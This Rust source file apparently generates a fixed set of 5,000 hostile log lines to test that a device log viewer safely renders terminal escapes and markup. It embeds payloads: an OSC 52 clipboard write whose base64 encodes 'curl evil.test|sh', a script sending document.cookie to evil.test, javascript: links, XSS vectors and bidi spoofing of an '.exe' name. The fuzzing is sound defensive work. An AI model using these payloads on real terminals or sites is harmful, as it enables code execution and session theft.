//! Five thousand lines a device should never write, the same ones every time.

/// How many lines there are.
pub(crate) const LINES: u32 = 5_000;
/// The one that never ends.
const ENDLESS: u32 = 2_500;
const ENDLESS_BYTES: usize = 10 * 1024 * 1024;

/// What closes an OSC or DCS string.
const ENDS: [&str; 3] = ["\u{7}", "\u{1b}\\", "\u{9c}"];
const STRINGS: [&str; 14] = [
    "]52;c;Y3VybCBldmlsLnRlc3R8c2gK",
    "]52;p;?",
    "]8;;javascript:alert(1)",
    "]8;id=a;https://evil.test/\u{202e}gpj.exe",
    "]0;root@host: ~",
    "]2;?",
    "]50;xterm*font",
    "]9;You have won",
    "]777;notify;a;b",
    "]1337;File=inline=1:AAAA",
    "P$qm",
    "P0;1;0q#0;2;100;0;0#0~~@@vv@@~~$-",
    "P+q544e",
    "_Gf=32,s=1,v=1;AAAA",
];
const QUERIES: [&str; 16] =
    ["[6n", "[c", "[>c", "[>q", "[18t", "[21t", "[?1049h", "[2J", "[3J", "[1;1H", "[8m", "[20A", "GQ", "#8", "Z", "c"];
const MARKUP: [&str; 8] = [
    "<img src=x onerror=alert(1)>",
    "<script>fetch('//evil.test/'+document.cookie)</script>",
    "</pre></textarea><svg/onload=alert(1)>",
    "javascript:alert(document.domain)",
    "[click](javascript:alert(1)) data:text/html,<script>alert(1)</script>",
    "&lt;script&gt; &#60;b&#62; {{7*7}} ${7*7} #{7*7}",
    "<a href=\"https://evil.test\" ping=//evil.test>https://balena.test</a>",
    "'\"><iframe srcdoc='<script>parent.x=1</script>'>",
];
const BIDI: [char; 12] = [
    '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
    '\u{200e}', '\u{200f}', '\u{61c}',
];
const ZERO_WIDTH: [char; 10] = [
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{feff}',
    '\u{2060}',
    '\u{ad}',
    '\u{180e}',
    '\u{3164}',
    '\u{e0041}',
    '\u{e0101}',
];
const MARKS: [char; 6] = ['\u{300}', '\u{336}', '\u{489}', '\u{20dd}', '\u{1dfe}', '\u{fe0f}'];
const PAINT: [&str; 8] = ["[31m", "[1;4;38;5;300m", "[38;2;999;0;0m", "[;;;m", "[48:2::1:2:3m", "[m", "[38m", "[?31m"];

/// The same numbers every time (xorshift).
#[derive(Debug)]
pub(crate) struct Random(pub(crate) u32);

impl Random {
    pub(crate) fn below(&mut self, end: u32) -> u32 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 17;
        self.0 ^= self.0 << 5;
        u32::try_from((u64::from(self.0) * u64::from(end)) >> 32).unwrap_or(0)
    }

    pub(crate) fn size(&mut self, end: u32) -> usize {
        usize::try_from(self.below(end)).unwrap_or(0)
    }

    pub(crate) fn one_of<T: Copy>(&mut self, all: &[T]) -> Option<T> {
        all.get(self.size(u32::try_from(all.len()).unwrap_or(0))).copied()
    }
}

/// The line of that number. What ends with `end` ends so too when it is shown, if it is not too long.
pub(crate) fn line(number: u32) -> String {
    let mut random = Random(number.wrapping_mul(2_654_435_761) | 1);
    if number == ENDLESS {
        return "0123456789abcde ".repeat(ENDLESS_BYTES / 16);
    }
    let is_cut = number % 5 == 4;
    let mut line = format!("line {number} ");
    let pieces = if number.is_multiple_of(3) { 6 } else { 1 };
    for _ in 0..pieces {
        piece(&mut line, number, &mut random);
        line.push_str(" and ");
    }
    if is_cut {
        line.push('\u{1b}');
        line.push_str(random.one_of(&STRINGS).or_else(|| random.one_of(&QUERIES)).unwrap_or_default());
        let mut end = random.size(8);
        while !line.is_char_boundary(line.len() - end) {
            end += 1;
        }
        line.truncate(line.len() - end);
    } else {
        line.push_str("end");
    }
    line
}

fn piece(line: &mut String, number: u32, random: &mut Random) {
    let some = |random: &mut Random, most: u32, all: &[char], line: &mut String| {
        for _ in 0..=random.below(most) {
            line.push('a');
            line.extend(random.one_of(all));
        }
    };
    match (number + random.below(2)) % 12 {
        0 | 1 => {
            let (string, end) = (random.one_of(&STRINGS), random.one_of(&ENDS));
            line.extend(["\u{1b}", string.unwrap_or_default(), end.unwrap_or_default(), "between"]);
        }
        2 => line.extend(["\u{1b}", random.one_of(&QUERIES).unwrap_or_default()]),
        3 => {
            // Those that begin no sequence: what follows is text.
            let control =
                random.one_of(&['\u{80}', '\u{84}', '\u{85}', '\u{88}', '\u{8d}', '\u{90}', '\u{9d}', '\u{9f}']);
            line.extend(control);
            line.push_str("0;title");
        }
        4 => some(random, 9, &BIDI, line),
        5 => some(random, 9, &ZERO_WIDTH, line),
        6 | 7 => line.push_str(random.one_of(&MARKUP).unwrap_or_default()),
        8 => {
            let byte = u8::try_from(random.below(27)).unwrap_or_default();
            line.extend([
                char::from(byte),
                '\0',
                '\u{7f}',
                '\u{8}',
                '\u{8}',
                '\u{fffd}',
                '\u{fffd}',
                '\u{2028}',
                '\u{2029}',
            ]);
        }
        9 => {
            line.push('Z');
            let most = if random.below(9) == 0 { 30_000 } else { 200 };
            for _ in 0..random.below(most) {
                line.extend(random.one_of(&MARKS));
            }
        }
        10 => {
            let most = if random.below(9) == 0 { 50_000 } else { 300 };
            line.push_str(&"\t".repeat(random.size(most)));
        }
        _ => {
            for _ in 0..random.below(40) {
                line.extend(["\u{1b}", random.one_of(&PAINT).unwrap_or_default(), "é"]);
            }
        }
    }
}
